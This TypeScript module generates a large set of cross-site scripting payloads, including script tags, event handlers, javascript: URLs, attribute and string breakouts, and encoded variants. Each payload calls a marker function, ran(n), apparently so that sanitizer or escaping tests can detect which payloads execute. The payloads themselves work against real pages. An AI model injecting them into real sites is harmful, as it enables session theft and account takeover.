/** What an attacker types to have a script of theirs run in somebody else's browser. Each calls `ran(n)`, n being its number. */
export interface Payload {
  n: number
  text: string
}

const quote = '\u0022'

/** By the place where they would run. Short where it can be: a name has 50 characters. */
const kinds: ((run: string) => string)[] = [
  // as an element of its own
  run => `<script>${run}</script>`,
  run => `<ScRiPt/x>${run}</sCrIpT >`,
  run => `<scr<script>ipt>${run}</scr</script>ipt>`,
  run => `<img src onerror=${run}>`,
  run => `<img/src/onerror=${run}>`,
  run => `<image href=x onerror=${run}>`,
  run => `<svg onload=${run}>`,
  run => `<svg><script>${run}</script></svg>`,
  run => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  run => `<svg><a href=javascript:${run}><text y=9>x</text></a></svg>`,
  run => `<details open ontoggle=${run}>x</details>`,
  run => `<input autofocus onfocus=${run}>`,
  run => `<select autofocus onfocus=${run}>`,
  run => `<video><source onerror=${run}></video>`,
  run => `<audio src onerror=${run}>`,
  run => `<body onload=${run}>`,
  run => `<iframe srcdoc='<script>parent.${run}</script>'></iframe>`,
  run => `<iframe src=javascript:parent.${run}></iframe>`,
  run => `<object data=javascript:parent.${run}></object>`,
  run => `<embed src=javascript:parent.${run}>`,
  run => `<form action=javascript:${run}><button autofocus onfocus=click()>x</button></form>`,
  run => `<meta http-equiv=refresh content='0;url=javascript:${run}'>`,
  run => `<style onload=${run}></style>`,
  run => `<style>@keyframes x{}</style><b style=animation:x onanimationstart=${run}>x</b>`,
  run => `<math><mtext><table><mglyph><style><!--</style><img title=${quote}--><img src onerror=${run}>${quote}>`,
  run => `<noscript><p title=${quote}</noscript><img src onerror=${run}>${quote}>`,
  run => `<x contenteditable autofocus tabindex=1 onfocus=${run}>x</x>`,
  run => `<template shadowrootmode=open><img src onerror=${run}></template>`,
  run => `<a href=javascript:${run}>x</a>`,
  run => `<dialog open onscrollend=${run}><img src onerror=${run}></dialog>`,
  // as an attribute, or out of one
  run => `${quote} autofocus onfocus=${run} x=${quote}`,
  run => `' autofocus onfocus=${run} x='`,
  run => `x onerror=${run} src=x`,
  run => `${quote}><img src onerror=${run}>`,
  run => `'><img src onerror=${run}>`,
  // as an address
  run => `javascript:${run}`,
  run => `JaVaScRiPt\t:${run}`,
  run => `java&Tab;script&colon;${run}`,
  run => `data:text/html,<script>parent.${run}</script>`,
  run => `//x.test/${quote}onerror=${run}//`,
  // out of a text in a script, or of a page's data
  run => `</script><script>${run}</script>`,
  run => `<!--<script>${quote}</script><script>${run}</script>`,
  run => `${quote};${run}//`,
  run => `';${run}//`,
  run => `\\${quote};${run}//`,
  run => `\${${run}}\`;${run}//`,
  run => `\u2028;${run}//`,
  // written so that something that decodes too much would make it one of the above
  run => `&lt;img src onerror=${run}&gt;`,
  run => `%3Cimg src onerror=${run}%3E`,
  run => `\\u003cimg src onerror=${run}\\u003e`,
]

/** What closes whatever may be open around it. */
const closers = ['', '">', "'></textarea></title></script>", '--></style></noscript>']

export const payloads: Payload[] = closers
  .flatMap(closer => kinds.map(kind => ({ closer, kind })))
  .map(({ closer, kind }, n) => ({ n, text: closer + kind(`ran(${n})`) }))
